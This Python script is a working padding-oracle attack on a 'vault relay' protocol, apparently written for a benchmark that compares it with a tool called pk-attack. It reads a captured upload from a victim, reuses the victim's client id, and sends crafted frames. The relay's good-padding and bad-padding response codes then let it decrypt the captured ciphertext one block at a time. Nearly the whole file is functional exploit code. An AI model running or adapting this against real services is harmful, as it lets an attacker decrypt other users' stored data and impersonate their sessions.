#!/usr/bin/env python3
"""A minimal padding-oracle attacker on the vault relay, for bench/: the
same attack as `pk-attack vault-padding-oracle` (the same queries: a
two-block 828 under the victim's client id, 1603 good padding, 1607 bad),
written the way a student would in Python, to compare with.  No packaged
padding-oracle tool exists in Debian or npm (bench/RESULTS.md).

usage: vault_oracle.py HOST:PORT CAPTURE.json > recovered
"""
import json
import socket
import struct
import sys

BLK = 16
NAME = b"oracle.bin"


def upload(path):
    """The client id, the first 828 frame and the ciphertext of the first
    upload in a --trace-json capture."""
    frames = []
    for line in open(path):
        f = json.loads(line)
        if f.get("protocol") == "vault" and f.get("direction") == "sent" \
                and f.get("step", "").startswith("send_file"):
            frames.append({x["name"]: bytes.fromhex(x["hex"])
                           for x in f["fields"] if x.get("offset") is not None
                           and x["offset"] >= 0})
    first = frames[0]
    total = struct.unpack("<H", first["total_packets"])[0]
    ct = b"".join(f["content"] for f in frames[:total])
    return first["client_id"], first["version"], ct


class Oracle:
    def __init__(self, addr, cid, version):
        host, port = addr.rsplit(":", 1)
        self.addr = (host, int(port))
        self.cid, self.version = cid, version
        self.sock = None
        self.queries = 0

    def query(self, x, c):
        payload = struct.pack("<IIHH", 2 * BLK, BLK, 0, 1)
        payload += NAME.ljust(255, b"\0") + (x + c).ljust(1024, b"\0")
        hdr = self.cid + self.version + struct.pack("<HI", 828, len(payload))
        if self.sock is None:
            self.sock = socket.create_connection(self.addr)
            self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.queries += 1
        self.sock.sendall(hdr + payload)
        r = self.recv(7)
        code, size = struct.unpack("<HI", r[1:7])
        self.recv(size)
        if code == 1603:
            return True
        self.sock.close()
        self.sock = None
        return False

    def recv(self, n):
        b = b""
        while len(b) < n:
            got = self.sock.recv(n - len(b))
            if not got:
                sys.exit("vault_oracle: the relay closed")
            b += got
        return b


def block(o, c):
    inter = bytearray(BLK)
    for j in range(BLK - 1, -1, -1):
        pad = BLK - j
        x = bytearray(BLK)
        for k in range(j + 1, BLK):
            x[k] = inter[k] ^ pad
        for g in range(256):
            x[j] = g
            if not o.query(bytes(x), c):
                continue
            if j == BLK - 1:
                x[j - 1] ^= 0xff
                ok = o.query(bytes(x), c)
                x[j - 1] ^= 0xff
                if not ok:
                    continue
            inter[j] = g ^ pad
            break
        else:
            sys.exit("vault_oracle: no padding oracle")
    return bytes(inter)


def main():
    cid, version, ct = upload(sys.argv[2])
    o = Oracle(sys.argv[1], cid, version)
    prev, plain = bytes(BLK), b""
    for i in range(0, len(ct), BLK):
        c = ct[i:i + BLK]
        plain += bytes(a ^ b for a, b in zip(block(o, c), prev))
        prev = c
    plain = plain[:-plain[-1]]
    sys.stdout.buffer.write(plain)
    print("vault_oracle: %d queries, %d bytes" % (o.queries, len(plain)),
          file=sys.stderr)


if __name__ == "__main__":
    main()
